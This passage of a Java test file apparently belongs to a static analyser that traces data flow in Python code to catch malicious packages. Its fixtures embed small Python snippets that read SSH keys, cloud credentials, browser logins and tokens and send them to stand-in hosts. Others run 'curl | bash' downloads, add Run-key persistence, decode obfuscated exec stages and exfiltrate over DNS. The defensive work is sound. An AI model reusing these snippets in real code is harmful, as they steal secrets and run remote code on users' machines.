                "r-1/retries/sub/_backoff.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("r-1/retries/sub/_backoff.py", files));
        assertThat(PyValues.text(model.calls().stream().filter(c -> c.callee().equals("sink")).findFirst().orElseThrow().args().get(0)))
                .isEqualTo("retries");
        assertThat(model.calls()).as("a main test inside a function is not decided")
                .anyMatch(c -> c.callee().equals("os.system") && "echo main".equals(PyValues.text(c.args().get(0))));
        assertThat(model.calls()).as("nor is any other test of the name")
                .anyMatch(c -> c.callee().equals("os.system") && "echo either".equals(PyValues.text(c.args().get(0))));
        assertThat(model.calls()).as("a main block with a further condition runs when the file is run")
                .anyMatch(c -> c.callee().equals("os.system") && "echo script".equals(PyValues.text(c.args().get(0)))
                        && c.scope().equals(PyEvaluator.MAIN));
        PyModel alone = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("setup.py", java.util.Map.of()));
        assertThat(PyValues.text(alone.calls().stream().filter(c -> c.callee().equals("sink")).findFirst().orElseThrow().args().get(0)))
                .as("outside a package the name is not known").isNull();
    }

    @Test
    void aTableOfListsLookedUpByThePlatformGivesEveryItem() {
        PyModel model = evaluate("""
                import sys
                CMDS = {"darwin": [["security", "dump-keychain"]], "win32": [["cmdkey", "/list"]]}
                for cmd in CMDS.get(sys.platform, []):
                    sink(cmd)
                for cmd in CMDS[sys.platform]:
                    sink(cmd)
                for cmd in CMDS.get("linux", []):
                    sink(cmd)
                """);
        List<String> sunk = model.calls().stream().filter(c -> c.callee().equals("sink"))
                .map(c -> String.valueOf(PyValues.text(((Value.Seq) c.args().get(0)).items().get(0)))).toList();
        assertThat(sunk).as("both lookups by the platform; none for a key the table lacks")
                .containsExactlyInAnyOrder("security", "cmdkey", "security", "cmdkey");
        Value record = sunk("""
                import os
                HOOKS = {"bash": ("eval x", ".bashrc"), "zsh": ("eval y", ".zshrc")}
                sink(HOOKS[os.environ.get("SHELL")][1])
                """);
        assertThat(PyValues.text(record)).as("a table of tuples holds records, not a collection to walk").isNull();
    }

    @Test
    void aMainBlockIsAScopeOfItsOwn() {
        PyModel model = evaluate("""
                import os
                os.getcwd()
                if __name__ == '__main__':
                    os.system('make tables')
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.system")).singleElement()
                .satisfies(c -> assertThat(c.scope()).isEqualTo(PyEvaluator.MAIN));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.getcwd")).singleElement()
                .satisfies(c -> assertThat(c.scope()).isEqualTo(PyEvaluator.MODULE));
    }

    @Test
    void percentFormattingKeepsKnownArgumentsInItsPiecesAndPythonCWithHolesIsAStage() {
        Value v = sunk("import socket\nsink('exec(get(%r, h=%r))' % ('https://example.invalid/x', socket.gethostname()))");
        assertThat(PyBuiltins.fragments(v)).containsExactly("exec(get('https://example.invalid/x', h=", "))");
        Value mapped = sunk("import os\nsink('curl %(u)s | %(sh)s -s %(k)s' % {'u': 'https://example.invalid/i', 'sh': 'bash', 'k': os.environ['K']})");
        assertThat(PyBuiltins.fragments(mapped)).containsExactly("curl https://example.invalid/i | bash -s ");
        PyModel model = evaluate("""
                import socket, subprocess, sys
                code = "import urllib.request as r;exec(r.urlopen(%r + %r).read())" % ('https://example.invalid/', socket.gethostname())
                subprocess.Popen([sys.executable, "-c", code])
                """);
        assertThat(model.stages()).extracting(PyModel.Stage::via, PyModel.Stage::text).contains(org.assertj.core.groups.Tuple.tuple(
                "python -c", "import urllib.request as r;exec(r.urlopen('https://example.invalid/' + _).read())"));
    }

    @Test
    void aFunctionHandedToAThreadOrAtexitRunsOnTheArgumentsGiven() {
        for (String code : List.of(
                "import threading\ndef relay(k, s):\n    sink(s + k)\nthreading.Thread(target=relay, args=('s', 'http')).start()",
                "import atexit\ndef bye(s, k=''):\n    sink(s + k)\natexit.register(bye, 'http', k='s')")) {
            assertThat(evaluate(code).calls()).as(code).anyMatch(c -> c.callee().equals("sink") && "https".equals(PyValues.text(c.args().get(0))));
        }
    }

    @Test
    void hostileConfigTextsStayUnknown() {
        StringBuilder laughs = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            laughs.append((char) ('a' + i)).append(": &").append((char) ('a' + i)).append(" [");
            laughs.append(("*" + (char) ('a' + i - 1) + ", ").repeat(9)).append('*').append((char) ('a' + i - 1)).append("]\n");
        }
        Value parsed = DataText.parse(laughs.toString(), true, List.of());
        assertThat(parsed).as("aliases are not expanded: no billion laughs").isInstanceOfSatisfying(Value.Dict.class,
                d -> assertThat(d.values().get(11)).isInstanceOfSatisfying(Value.Seq.class,
                        l -> assertThat(l.items()).hasSize(10).allMatch(item -> item instanceof Value.Str)));
        assertThat(DataText.parse("[".repeat(10_000), false, List.of())).isNull();
        assertThat(DataText.parse("{\"a\": 1", false, List.of())).isNull();
        assertThat(DataText.parse("!!python/object/apply:os.system ['id']", true, List.of())).isNotInstanceOf(Value.Str.class);
    }

    @Test
    void aModuleListThatFunctionsFillIsUnknownToAFunctionAnalysedOnItsOwn() {
        PyModel model = evaluate("""
                _buf = []
                def on_key(k):
                    _buf.append(str(k))
                def flush():
                    text = ''.join(_buf)
                    if text:
                        sink(text)
                CONSTANT = ['a']
                def reads():
                    text = ''.join(CONSTANT)
                    if not text:
                        dead()
                """);
        assertThat(model.calls()).as("the flush may find the buffer filled").anyMatch(c -> c.callee().equals("sink"));
        assertThat(model.calls()).as("a list no function fills is still known").noneMatch(c -> c.callee().equals("dead"));
    }

    @Test
    void aRegistryOfFunctionsADecoratorFillsKeepsTheFunctionsForItsRunner() {
        PyModel model = evaluate("""
                _HOOKS = []
                def hook(fn):
                    _HOOKS.append(fn)
                    return fn
                def run_hooks():
                    for h in _HOOKS:
                        h()
                @hook
                def _agent():
                    sink('agent')
                """);
        assertThat(model.calls()).as("the runner calls the registered hook")
                .anyMatch(c -> c.callee().equals("_agent") && c.scope().equals("run_hooks"));
        assertThat(model.calls()).as("the hook's own body runs in the runner too")
                .anyMatch(c -> c.callee().equals("sink") && c.scope().equals("_agent"));
    }

    @Test
    void anUnknownLocalDictKeepsWhatIsPutInIt() {
        PyModel model = evaluate("""
                def report(topic, payload):
                    doc = {"t": topic, **(payload or {})}
                    doc["f"] = open('/home/u/.aws/credentials').read()
                    sink(doc)
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(c.args().get(0).from()).contains("file:/home/u/.aws/credentials"));
    }

    @Test
    void whatAFunctionPutsOnAModuleLevelQueueIsWhatAnotherOneGets() {
        PyModel model = evaluate("""
                import os, queue
                _Q = queue.Queue()
                def drain():
                    while True:
                        sink(_Q.get())
                def collect():
                    _Q.put({"env": dict(os.environ)})
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink"))
                .anySatisfy(c -> assertThat(c.args().get(0).from()).contains("os.environ"));
    }

    @Test
    void aFunctionOnItsOwnDoesNotDecideTestsOnTheModulesMutableState() {
        PyModel model = evaluate("""
                _buf = []
                LIMIT = 100
                def on_key(k):
                    _buf.append(str(k))
                    if len(_buf) >= LIMIT:
                        sink(''.join(_buf))
                        _buf.clear()
                    if LIMIT < 10:
                        dead()
                """);
        assertThat(model.calls()).as("the flush runs once the buffer is full").anyMatch(c -> c.callee().equals("sink"));
        assertThat(model.calls()).as("a test on a constant still decides").noneMatch(c -> c.callee().equals("dead"));
    }

    @Test
    void aMainBlockUnderARebound__name__IsModuleCode() {
        PyModel model = evaluate("""
                import os
                __name__ = '__main__'
                if __name__ == '__main__':
                    os.system('id')
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.system")).singleElement()
                .satisfies(c -> assertThat(c.scope()).isEqualTo(PyEvaluator.MODULE));
    }

    @Test
    void aStringConstantOfAnotherModuleOfThePackageIsKnown() {
        String code = "import base64\nfrom ._const import BLOB\nfrom pkg.other import NAME\nsink(base64.b64decode(BLOB))\nsink(NAME)\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_const.py", "BLOB = 'cHJpbnQoMSk='\n",
                "other.py", "NAME = 'x'\ndef f():\n    pass\n"));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("print(1)");
        assertThat(PyValues.text(sinks.get(1).args().get(0))).isEqualTo("x");
    }

    private static final String KRAMER = """
            class Kramer():
                def __new__(cls, _sparkle, _delta):
                    cls._sparkle = _sparkle
                    cls._delta = _delta
                    return cls.__decode__(cls)
                def __decode__(self):
                    _rho = ''
                    for _gamma in self._sparkle:
                        _rho += chr(_gamma - self._delta)
                    return _rho
            _blob = [115, 120, 105, 118, 117]
            _k = (2 ** 2)
            """;

    @Test
    void classAttributesHoldingAClassOrALibraryFunctionAreFollowedThroughSelf() {
        PyModel model = evaluate("""
                import os, urllib.request
                class _Transport:
                    opener = staticmethod(urllib.request.urlopen)
                class _Context:
                    @staticmethod
                    def gather():
                        return open(os.path.expanduser('~/.pypirc')).read()
                class Check:
                    transport = _Transport
                    context = _Context
                    def run(self):
                        self.transport.opener('https://example.invalid/v1', data=self.context.gather().encode())
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("urllib.request.urlopen")).singleElement()
                .satisfies(c -> assertThat(c.keywords().get("data").from()).contains("file:~/.pypirc"));
    }

    @Test
    void aClassWhoseNewReturnsDecodedTextIsThatText() {
        PyModel model = evaluate(KRAMER + "sink(Kramer(_blob, _k))\n");
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("oterq"));
    }

    @Test
    void aClassOfAnotherModuleWhoseNewReturnsDecodedTextIsThatText() {
        String code = "from .loader import Kramer as _K, _blob, _k\nsink(_K(_blob, _k))\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "loader.py", KRAMER));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("oterq"));
    }

    @Test
    void whatAHelperOfAnotherModuleGathersIsInItsResultUnlessTheResultIsSeveralValuesOrAnObject() {
        String helper = "import os\n"
                + "def gather():\n    found = {}\n    for rel in ('.kube/config', '.aws/credentials'):\n"
                + "        found[rel] = open(os.path.join(os.path.expanduser('~'), rel)).read()\n    return found\n"
                + "def resolve():\n    return 'https://s3.amazonaws.com', os.environ['AWS_SECRET_ACCESS_KEY']\n"
                + "class Creds:\n    def __init__(self, key, region):\n        self.key, self.region = key, region\n"
                + "def creds():\n    return Creds(os.environ['AWS_SECRET_ACCESS_KEY'], 'eu-west-1')\n";
        String code = "from ._paths import gather, resolve, creds\nsink(gather())\nurl, key = resolve()\nsink(url)\nsink(creds().region)\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_paths.py", helper));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(Value.union(sinks.get(0).args().get(0))).contains("file:~…/.kube/config", "file:~…/.aws/credentials");
        assertThat(Value.union(sinks.get(1).args().get(0))).as("a tuple's parts are used apart").noneMatch(f -> f.startsWith("env:"));
        assertThat(Value.union(sinks.get(2).args().get(0))).as("an object's parts are used apart").noneMatch(f -> f.startsWith("env:"));
    }

    @Test
    void anObjectAnotherModuleMadeIsReadThroughItsFieldsClassAttributesAndProperties() {
        String config = """
                class _Config:
                    key_path = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'
                    def __init__(self):
                        self.name = 'Host'
                    @property
                    def command(self):
                        return 'pythonw -c "%s"' % self.name
                CONFIG = _Config()
                """;
        String reg = """
                import winreg
                def persist(cfg):
                    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, cfg.key_path)
                    winreg.SetValueEx(key, cfg.name, 0, winreg.REG_SZ, cfg.command)
                """;
        PyModel model = evaluateInPackage("from .config import CONFIG\nfrom ._reg import persist\npersist(CONFIG)\nsink(CONFIG.command)\n",
                java.util.Map.of("config.py", config, "_reg.py", reg));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("pythonw -c \"Host\""));
        // What the helper did with what it read off the object it was handed is done at the call.
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("winreg.SetValueEx")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(4))).isEqualTo("pythonw -c \"Host\""));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("winreg.OpenKey")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(1))).endsWith("CurrentVersion\\Run"));
    }

    @Test
    void aModuleImportedInATryIsBoundForItsFunctionsRunFromAnotherModule() {
        String backend = """
                import base64
                try:
                    import zlib as _z
                except ImportError:
                    _z = None
                def unpack(blob):
                    return _z.decompress(base64.b64decode(blob)).decode()
                """;
        String code = "from .backend import unpack\nsink(unpack('eJwrKMrMK9FQz0jNyclXKM8vyklR1wQATuMHKQ=='))\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of("backend.py", backend));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("print('hello world')"));
    }

    @Test
    void anInstanceMadeWithAnObjectOfAThirdModuleSendsWhatThatObjectHoldsFromItsMethods() {
        String settings = """
                import os
                from dataclasses import dataclass, field
                def _keys():
                    return open(os.path.expanduser('~/.ssh/id_rsa')).read()
                @dataclass
                class Settings:
                    keys: str = field(default_factory=_keys)
                """;
        String reporter = """
                import json, urllib.request
                from dataclasses import asdict
                class Reporter:
                    def __init__(self, settings):
                        self.settings = settings
                    def announce(self):
                        body = json.dumps(asdict(self.settings)).encode()
                        urllib.request.urlopen(urllib.request.Request('https://hooks.example.invalid/x', data=body))
                """;
        String code = "from .settings import Settings\nfrom .reporter import Reporter\nReporter(Settings()).announce()\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of("settings.py", settings, "reporter.py", reporter));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("urllib.request.urlopen"))
                .anySatisfy(c -> assertThat(Value.union(c.args().get(0))).contains("file:~/.ssh/id_rsa"));
    }

    @Test
    void anInstanceAFactoryOfAnotherModuleReturnedIsReadThroughItsProperties() {
        String plan = """
                import os, tempfile
                class Plan:
                    origin = 'http://203.0.113.12'
                    def __init__(self, path):
                        self.path = path
                        self.dest = os.path.join(tempfile.gettempdir(), '.rh')
                    @property
                    def command(self):
                        return 'curl -fsSL %s/%s -o %s' % (self.origin, self.path, self.dest)
                    @classmethod
                    def default(cls):
                        return cls('l/rh')
                """;
        String run = "import os\ndef dispatch(plan):\n    os.system(plan.command)\n";
        PyModel model = evaluateInPackage("from .plan import Plan\nfrom .run import dispatch\ndispatch(Plan.default())\n",
                java.util.Map.of("plan.py", plan, "run.py", run));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.system"))
                .anySatisfy(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).contains("curl -fsSL http://203.0.113.12/l/rh -o "));
    }

    @Test
    void aTableOfEncodedStringsInAnotherModuleIsDecodedThroughItsPicker() {
        String helper = "_KEY = b'k3y!'\nTABLE = {'src': bytes([3, 71, 13, 81, 24, 9, 86, 14, 24, 71, 24, 70, 14, 29, 28, 89, 10, 94])}\n"
                + "def s(name):\n    raw = TABLE[name]\n    return bytes(c ^ _KEY[i % len(_KEY)] for i, c in enumerate(raw)).decode()\n";
        String code = "from ._strings import s\nsink(s('src'))\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_strings.py", helper));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isEqualTo("https://stage.exam"));
    }

    @Test
    void aBlobSplitIntoATupleOfPiecesIsFollowedIntoTheDecoderOfAnotherModule() {
        String code = "from ._codec import unpack\n_P = ('aW1wb3J0IG9zOyBvcy5z', 'eXN0ZW0oJ2lkJyk=')\nexec(unpack(_P))\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_codec.py", "import base64\ndef unpack(parts):\n    return base64.b64decode(''.join(parts))\n"));
        assertThat(model.stages()).singleElement().satisfies(stage -> assertThat(stage.text()).isEqualTo("import os; os.system('id')"));
    }

    @Test
    void aModuleReadsItsOwnSourceThroughInspectButNotThroughOpen() {
        String code = "import inspect, sys\n#: 7072696e742831290a\n"
                + "src = inspect.getsource(sys.modules[__name__])\n"
                + "exec(bytes.fromhex(''.join(l[3:] for l in src.splitlines() if l.startswith('#: '))))\n"
                + "sink(open(__file__).read())\n";
        java.util.Map<String, byte[]> files = java.util.Map.of(
                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files));
        assertThat(model.stages()).singleElement().satisfies(stage -> assertThat(stage.text()).isEqualTo("print(1)\n"));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyValues.text(c.args().get(0))).isNull());
    }

    @Test
    void aLoopOverUnknownItemsDoesNotDecideTestsOnWhatItAccumulates() {
        String code = "import requests\nbits, out = [], ''\n"
                + "for px in requests.get('https://x.example.invalid/i.png').content:\n"
                + "    bits.append(str(px & 1))\n"
                + "    if len(bits) == 8:\n        out += chr(int(''.join(bits), 2))\n        bits = []\n"
                + "if out:\n    exec(out)\n";
        assertThat(evaluate(code).calls()).filteredOn(c -> c.callee().equals("builtins.exec")).singleElement()
                .satisfies(c -> assertThat(Value.union(c.args().get(0))).contains("requests.get"));
    }

    @Test
    void aSmallHelperOfAnotherModuleCalledWithNothingGivesWhatItReallyReturns() {
        String code = "from . import paths, dns\nfor p in paths.candidates():\n    sink(p)\n"
                + "sink(paths.settings()['stage'])\ndns.lookup(open(paths.candidates()[0]).read().encode().hex() + '.x.example.invalid')\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "paths.py", ("import os, json\nfrom pathlib import Path\n"
                        + "def candidates():\n    return [Path.home() / r for r in ('.aws/credentials', '.netrc')]\n"
                        + "def settings():\n    with open(os.path.join(os.path.dirname(__file__), 'd.json')) as f:\n        return json.load(f)\n"),
                "d.json", "{\"stage\": \"aGVsbG8=\"}",
                "dns.py", "import socket\ndef lookup(name):\n    socket.gethostbyname(name)\n"));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(sinks).extracting(c -> PyBuiltins.fragments(c.args().get(0))).anySatisfy(f -> assertThat(f).contains("/.aws/credentials"));
        assertThat(PyValues.text(sinks.get(sinks.size() - 1).args().get(0))).as("a dict read from the package's data file").isEqualTo("aGVsbG8=");
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("socket.gethostbyname")).singleElement()
                .as("a lookup a helper makes of what it was handed is made here")
                .satisfies(c -> assertThat(Value.union(c.args().get(0))).anyMatch(f -> f.startsWith("file:")));
    }

    @Test
    void sourceLoadedFromAShippedDataFileIsAStageButThePackagesOwnModulesAreNot() {
        String code = "import os, importlib.util\nfrom importlib.machinery import SourceFileLoader\n"
                + "here = os.path.dirname(__file__)\n"
                + "loader = SourceFileLoader('pkg._accel', os.path.join(here, '_bin', 'accel.dat'))\n"
                + "loader.exec_module(importlib.util.module_from_spec(importlib.util.spec_from_loader('pkg._accel', loader)))\n"
                + "spec = importlib.util.spec_from_file_location('v', os.path.join(here, 'version.py'))\n"
                + "spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"
                + "s2 = importlib.util.spec_from_file_location('d', os.path.join(here, 'd.bin'))\n"
                + "s2.loader.exec_module(importlib.util.module_from_spec(s2))\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of("_bin/accel.dat", "import os\nos.system('id')\n",
                "version.py", "__version__ = '1.0'\n", "d.bin", "print(2)\n"));
        assertThat(model.stages()).extracting(PyModel.Stage::text).containsExactly("import os\nos.system('id')\n", "print(2)\n");
    }

    @Test
    void aTestThatPinsANameToKnownTextGivesItThatTextInTheBranch() {
        String code = "import os\nFILES = ('Login Data', 'Cookies')\n"
                + "for root, _, names in os.walk(os.path.expanduser('~/.config/google-chrome')):\n"
                + "    for n in names:\n        if n in FILES or n == 'Web Data':\n            sink(os.path.join(root, n))\n"
                + "        if n.endswith('.ldb'):\n            kind(n)\n"
                + "        other(n)\n";
        List<PyModel.CallSite> calls = evaluate(code).calls();
        assertThat(calls).filteredOn(c -> c.callee().equals("sink")).singleElement()
                .satisfies(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).contains("Login Data", "Cookies", "Web Data"));
        assertThat(calls).filteredOn(c -> c.callee().equals("kind")).singleElement()
                .satisfies(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).as("a suffix is a kind, not a value").isEmpty());
        assertThat(calls).filteredOn(c -> c.callee().equals("other")).singleElement()
                .satisfies(c -> assertThat(PyBuiltins.fragments(c.args().get(0))).as("only within the branch").isEmpty());
    }

    @Test
    void aHookAnalysedBeforeItIsInstalledIsAnalysedAgainWithWhatItIntercepts() {
        String code = "import queue, threading, requests\nfrom requests.sessions import Session\n_Q = queue.Queue()\n"
                + "_orig = Session.request\n"
                + "def _drain():\n    while True:\n        sink(_Q.get())\n"
                + "def _hooked(self, method, url, *args, **kwargs):\n    _Q.put(kwargs.get('headers'))\n"
                + "    return _orig(self, method, url, *args, **kwargs)\n"
                + "def install():\n    Session.request = _hooked\n    threading.Thread(target=_drain).start()\n";
        assertThat(evaluate(code).calls()).filteredOn(c -> c.callee().equals("sink"))
                .anySatisfy(c -> assertThat(Value.union(c.args().get(0))).anyMatch(f -> f.startsWith(PyEvaluator.INTERCEPTED)));
    }

    @Test
    void aFunctionHandedToAnotherModuleIsCalledBackWithWhatItReturns() {
        String code = "import os\nfrom ._net import send\n"
                + "def _read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                + "def _quiet():\n    return 3\n"
                + "send(_read)\nsend(_quiet)\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_net.py", "import requests\ndef send(get):\n    requests.post('https://c.example.com', data=get())\n"));
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("requests.post")).singleElement().satisfies(c -> {
            assertThat(c.node().start()).as("made from the call that handed the reader over").isEqualTo(code.indexOf("send(_read)"));
            assertThat(Value.union(c.keywords().get("data"))).contains("file:~/.ssh/id_rsa");
        });
    }

    @Test
    void aStringConstantReadThroughAModuleOfThePackageIsKnown() {
        String code = "from . import _templates\nsink(_templates.PROBE.format(h='x'))\nsink(_templates.OTHER)\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_templates.py", "PROBE = (\n    'curl {h}'\n    ' | sh'\n)\nOTHER = compute()\n"));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("curl x | sh");
        assertThat(PyValues.text(sinks.get(1).args().get(0))).as("not a literal").isNull();
    }

    @Test
    void textAnotherModuleOfThePackageComputesIsKnownButNumbersKeepTheirNames() {
        String code = "from . import _names\nfrom ._names import RUNNER\nsink(RUNNER)\nsink(_names.WANT[1])\nsink(_names.VK_LBUTTON)\n";
        PyModel model = evaluateInPackage(code, java.util.Map.of(
                "_names.py", "RUNNER = ''.join(reversed(['ec', 'ex']))\nWANT = ('TOK' + 'EN', 'SEC' + 'RET')\nVK_LBUTTON = 0 + 1\n"));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("exec");
        assertThat(PyValues.text(sinks.get(1).args().get(0))).isEqualTo("SECRET");
        assertThat(sinks.get(2).args().get(0)).as("a number stays a name").isInstanceOf(Value.Sym.class);
    }

    @Test
    void aMethodAnalysedOnItsOwnRunsTheMethodsItCallsOnSelf() {
        PyModel model = evaluate("""
                import requests
                class Agent:
                    def poll(self):
                        return requests.get(self.endpoint).text
                    def loop(self):
                        task = self.poll()
                        sink(task)
                """);
        assertThat(model.calls()).filteredOn(c -> c.callee().equals("sink")).isNotEmpty()
                .allSatisfy(c -> assertThat(c.args().get(0).from()).contains("requests.get"));
    }

    @Test
    void aComprehensionWithAnUnknownFilterStillHoldsWhatItMayKeep() {
        PyModel model = evaluate("""
                import os
                keys = ("GITHUB_TOKEN", "NPM_TOKEN")
                sink({k: os.environ[k] for k in keys if k in os.environ})
                sink([k for k in keys if k.startswith("GITHUB")])
                """);
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(Value.union(sinks.get(0).args().get(0))).as("either may be kept").contains("env:GITHUB_TOKEN", "env:NPM_TOKEN");
        assertThat(PyValues.text(((Value.Seq) sinks.get(1).args().get(0)).items().get(0))).isEqualTo("GITHUB_TOKEN");
    }

    @Test
    void aFunctionOfAnotherModuleOfThePackageRunsOnTheValuesGiven() {
        String code = "from ._codec import unpack\nfrom pkg.net import fetch\nfrom .other import helper\n"
                + "sink(unpack('cHJpbnQoJ2hlbGxvIHdvcmxkJyk='))\nsink(fetch('https://example.invalid/x'))\n"
                + "sink(helper('cHJpbnQoJ2hlbGxvIHdvcmxkJyk='))\n";
        java.util.Map<String, byte[]> files = java.util.Map.of(
                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
                "p-1/pkg/_codec.py", "import base64\nKEY = 'k'\ndef unpack(s):\n    return base64.b64decode(s).decode()\n"
                        .getBytes(java.nio.charset.StandardCharsets.UTF_8),
                "p-1/pkg/net.py", "import urllib.request as u\ndef fetch(url):\n    return u.urlopen(url).read()\n"
                        .getBytes(java.nio.charset.StandardCharsets.UTF_8),
                "p-1/pkg/other.py", "import base64\nhelper = base64.b64decode\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        java.util.function.BiFunction<String, String, String> modules = (importer, m) -> switch (m) {
            case "._codec" -> "p-1/pkg/_codec.py";
            case "pkg.net" -> "p-1/pkg/net.py";
            case ".other" -> "p-1/pkg/other.py";
            default -> null;
        };
        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(),
                new ModuleFiles("p-1/pkg/__init__.py", files, new ModuleFiles.Cache(), modules));
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("print('hello world')");
        assertThat(sinks.get(0).args().get(0).chain()).containsExactly("base64");
        assertThat(sinks.get(1).args().get(0).from()).contains("urllib.request.urlopen");
        // Only functions defined there are run; an alias is a name, as before.
        assertThat(PyValues.text(sinks.get(2).args().get(0))).isNull();
        // What runs in the other module is that module's to report, not this one's.
        assertThat(model.calls()).extracting(PyModel.CallSite::callee)
                .doesNotContain("base64.b64decode", "urllib.request.urlopen");
    }

    @Test
    void aDictFilledUnderAnUnknownConditionHoldsWhatEitherBranchPutInIt() {
        PyModel model = evaluate("""
                import os
                out = {"kept": 1}
                for name in (".npmrc", ".pypirc"):
                    if os.path.exists(name):
                        out[name] = open(name).read()
                sink(out)
                """);
        Value.Dict out = (Value.Dict) model.calls().stream().filter(c -> c.callee().equals("sink")).findFirst().orElseThrow()
                .args().get(0);
        assertThat(out.keys()).extracting(PyValues::text).containsExactly("kept", ".npmrc", ".pypirc");
        assertThat(out.values().get(2).from()).contains("file:.pypirc");
    }

    @Test
    void countersOfALoopOverUnknownItemsDoNotDecideItsBody() {
        PyModel model = evaluate("""
                from PIL import Image
                out, cur, n = bytearray(), 0, 0
                for px in Image.open("logo.png").getdata():
                    cur = (cur << 1) | (px & 1)
                    n += 1
                    if n == 8:
                        out.append(cur)
                        cur = 0
                        n = 0
                sink(bytes(out).decode())
                known = bytearray()
                for b in (104, 105):
                    known.append(b)
                sink(known)
                """);
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).isNull();
        assertThat(sinks.get(0).args().get(0).from()).contains("PIL.Image.open");
        assertThat(PyValues.text(sinks.get(1).args().get(0))).isEqualTo("hi");
    }

    @Test
    void aPayloadShippedWithItsAesKeyDecrypts() {
        PyModel model = evaluate("""
                from Crypto.Cipher import AES
                from Crypto.Util.Padding import unpad
                from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
                key = bytes(range(16))
                iv = bytes.fromhex("0f0e0d0c0b0a09080706050403020100")
                blob = bytes.fromhex("d079b42e7cfdc325b0b0ccb0907b63fc4d6be9f8d7b0e4fa443682df49a4557d")
                exec(unpad(AES.new(key, AES.MODE_CBC, iv).decrypt(blob), 16))
                d = Cipher(algorithms.AES(key), modes.GCM(bytes(range(12)))).decryptor()
                sink(d.update(bytes.fromhex("fa01d7a1146fd73b38e941e5458d0371c0527f8b7bca9492c108")) + d.finalize())
                sink(AES.new(key, AES.MODE_CBC).decrypt(blob))
                """);
        assertThat(model.stages()).extracting(PyModel.Stage::text)
                .containsExactly("import os; os.system('id')");
        assertThat(model.stages().get(0).chain()).containsSubsequence("hex", "aes", "python");
        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
        assertThat(PyValues.text(sinks.get(0).args().get(0))).isEqualTo("import os; os.system('id')");
        // Without its IV (PyCryptodome draws a random one), nothing is known.
        assertThat(PyValues.text(sinks.get(1).args().get(0))).isNull();
    }

